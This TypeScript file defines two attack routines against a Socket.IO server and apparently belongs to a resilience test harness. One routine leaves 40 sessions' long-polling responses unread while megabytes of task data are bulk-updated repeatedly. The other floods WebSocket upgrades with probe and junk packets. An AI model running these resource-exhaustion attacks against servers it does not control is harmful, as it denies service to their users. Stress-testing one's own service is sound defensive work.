import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { WebSocket } from 'ws'
import { type Attack, type Attacker, keepDoing, type Target } from './target.ts'

const path = '/socket.io/?EIO=4&transport=polling'

async function openSession({ url }: Target): Promise<string> {
  const text = await (await fetch(url + path)).text()
  return (JSON.parse(text.slice(1)) as { sid: string }).sid
}

/** A GET of which only the beginning is read; resolves when it is answered, or the connection is closed. */
function leaveUnread({ url }: Target, sid: string): { connection: Socket; answered: Promise<boolean> } {
  const { hostname, port } = new URL(url)
  const connection = connect(Number(port), hostname)
  connection.on('error', () => {})
  connection.write(`GET ${path}&sid=${sid} HTTP/1.1\r\nHost: x\r\n\r\n`)
  const answered = new Promise<boolean>(resolve => {
    connection.once('readable', () => resolve(String(connection.read(12)) === 'HTTP/1.1 200'))
    connection.once('close', () => resolve(false))
  })
  return { connection, answered }
}

const answersOfSession = 8

const largeTasks = 200
const description = 'word '.repeat(9_000)

/**
 * Forty sessions of one person poll on connection after connection, and read none of the answers, while nine
 * megabytes of the person's tasks are changed at once, over and over. Each change that is carried out counts.
 */
export const unreadPolls: Attacker = async target => {
  const connections = new Set<Socket>()
  const ending = new AbortController()
  const { signal } = ending
  let accepted = 0
  const as = { authorization: `Bearer ${target.token}`, 'content-type': 'application/json' }
  const post = (where: string, body: object) =>
    fetch(`${target.url}/api/v1${where}`, { method: 'POST', headers: as, body: JSON.stringify(body), signal })
  const task_ids: number[] = []
  const making = Array.from({ length: 4 }, async () => {
    while (task_ids.length < largeTasks) {
      const made = await post('/tasks', { title: 'large', description })
      if (made.ok) task_ids.push(((await made.json()) as { id: number }).id)
      else await sleep(200)
    }
  })
  await Promise.all(making)

  const reading = keepDoing(40, async () => {
    const sid = await openSession(target)
    const send = async (body: string) =>
      (await fetch(`${target.url}${path}&sid=${sid}`, { method: 'POST', body, signal })).ok
    const entered = await send(`40${JSON.stringify({ token: target.token, bulk: true })}`)
    if (!entered || !(await send('42["join_room",{"room":"tasks"}]'))) return false
    const own: Socket[] = []
    for (let nth = 0; nth < answersOfSession && !signal.aborted; nth++) {
      const { connection, answered } = leaveUnread(target, sid)
      own.push(connection)
      connections.add(connection)
      connection.once('close', () => connections.delete(connection))
      if (!(await answered)) break
    }
    for (const connection of own) connection.destroy()
    return true
  })
  let round = 0
  const changing = keepDoing(1, async () => {
    const updates = { status: round++ % 2 === 0 ? 'in_progress' : 'todo' }
    if ((await post('/tasks/bulk-update', { task_ids, updates })).ok && connections.size > 0) accepted++
    await sleep(200)
    return true
  })
  return {
    accepted: () => accepted,
    stop: async () => {
      ending.abort()
      for (const connection of connections) connection.destroy()
      await Promise.all([reading.stop(), changing.stop()])
    },
  }
}

/** Ten strangers begin sessions by polling and try WebSockets for them: endless probes, then other packets. */
export const upgrades: Attacker = async (target): Promise<Attack> => {
  const open = new Set<WebSocket | Socket>()
  const attack = keepDoing(10, async place => {
    const sid = await openSession(target)
    const { connection } = leaveUnread(target, sid)
    open.add(connection)
    connection.once('close', () => open.delete(connection))
    const ws = new WebSocket(`${target.url.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket&sid=${sid}`)
    open.add(ws)
    ws.once('close', () => open.delete(ws))
    return await new Promise<boolean>(resolve => {
      ws.on('error', () => resolve(false))
      ws.once('open', () => {
        ws.pause()
        const { _socket: inner } = ws as unknown as { _socket: Socket }
        inner.cork()
        for (let nth = 0; nth < 10; nth++) ws.send(place % 2 === 0 ? '2probe' : 'x')
        inner.uncork()
        resolve(true)
      })
    })
  })
  return {
    ...attack,
    stop: async () => {
      await attack.stop()
      for (const one of open) {
        if (one instanceof WebSocket) one.terminate()
        else one.destroy()
      }
    },
  }
}
